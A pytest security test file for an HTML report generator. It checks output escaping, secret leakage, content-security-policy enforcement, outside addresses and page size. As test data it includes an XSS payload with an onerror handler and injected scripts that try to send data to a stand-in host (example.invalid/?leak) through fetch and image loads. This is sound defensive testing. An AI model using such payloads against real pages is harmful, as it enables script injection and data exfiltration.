"""What a page must never do: run a user's text, call out, tell a secret, grow without bound."""

from __future__ import annotations

import gzip
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from pyrometer.report import html

CANARY = "</script><img src=x onerror=\"document.title='owned'\">"
SECRET = "canary-secret-of-the-environment"
RAW_BYTES, PACKED_BYTES = 250_000, 90_000


@pytest.fixture(scope="module")
def poisoned(rich):
    return rich(CANARY)


class Addresses(HTMLParser):
    """All that a page could load or lead to."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        names = {"src", "href", "srcset", "action", "poster", "data", "xlink:href"}
        self.found += [value or "" for name, value in attrs if name in names]


def every_page(page):
    for name in [link.get_attribute("href") for link in page.locator("nav.pages a").all()]:
        page.evaluate("name => { location.hash = name }", name)
        page.wait_for_function("name => '#/' + document.body.dataset.shown == name", arg=name)
        page.wait_for_timeout(100)
        yield name


def test_text_of_users_is_never_markup(open_page, poisoned):
    page = open_page(*poisoned)
    for name in every_page(page):
        assert page.locator("img[src=x]").count() == 0, name
        assert "owned" not in page.title().replace(CANARY, ""), name
    scripts = page.locator("script:not([type])")
    assert scripts.count() == 2


def test_text_of_users_is_escaped_in_the_file(poisoned):
    text = html.page(*poisoned)
    assert CANARY not in text
    assert "<img src=x" not in text


def test_nothing_of_the_environment_is_told(rich, monkeypatch):
    for name in ("API_TOKEN", "PYROMETER_TOKEN", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    text = html.page(*rich())
    assert SECRET not in text


def test_the_policy_stops_calls_scripts_styles_and_frames(open_page, perception, watch):
    page = open_page(perception)
    blocked = []
    page.on("requestfailed", lambda request: blocked.append((request.url, request.failure)))
    page.evaluate(
        "window.stopped = []; document.addEventListener('securitypolicyviolation',"
        "event => window.stopped.push(event.effectiveDirective))"
    )
    answer = page.evaluate(
        "fetch('https://example.invalid/?leak').then(() => 'let through', () => 'stopped')"
    )
    assert answer == "stopped"
    page.evaluate(
        "() => { const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));"
        "add('script', {textContent: 'window.ran = true'}); add('style', {textContent: 'body {color: red}'});"
        "add('iframe', {src: 'data:text/html,x'}); add('img', {src: 'https://example.invalid/leak.png'});"
        "new Image().src = 'https://example.invalid/leak2.png'; document.body.setAttribute('style', 'color: red') }"
    )
    page.wait_for_function("window.stopped.length >= 5")
    assert page.evaluate("window.ran") is None
    wanted = {"connect-src", "script-src-elem", "style-src-elem", "frame-src", "img-src"}
    assert wanted <= set(page.evaluate("window.stopped"))
    page.evaluate("() => { setTimeout('window.ran = true', 0) }")
    page.wait_for_function("window.stopped.length >= 6")
    assert page.evaluate("window.ran") is None
    assert len(watch.console) >= 6
    watch.console.clear()
    assert {(url, "csp") for url in watch.requests} <= set(blocked)
    watch.requests.clear()


def test_nothing_is_addressed_outside(poisoned, rich):
    for case in (poisoned, rich()):
        for address in Addresses(html.page(*case)).found:
            assert address.startswith(("#", "data:")), address


def test_the_same_document_gives_the_same_bytes(rich):
    case = rich()
    assert html.page(*case) == html.page(*case)


def test_the_script_is_small():
    script = str(html.inline("report.js").text).encode()
    assert len(script) <= RAW_BYTES


def test_the_packed_script_is_small():
    script = str(html.inline("report.js").text).encode()
    assert len(gzip.compress(script, 9)) <= PACKED_BYTES


def test_a_typical_page_is_small(rich):
    assert len(html.page(*rich()).encode()) <= 2_000_000


def test_no_asset_calls_out():
    folder = Path(html.__file__).parent / "assets"
    for path in folder.glob("*.*s"):
        found = set(re.findall(r"https?://[^\s\"'`)]+", path.read_text(encoding="utf-8")))
        assert {address for address in found if not address.startswith("http://www.w3.org/")} == set()
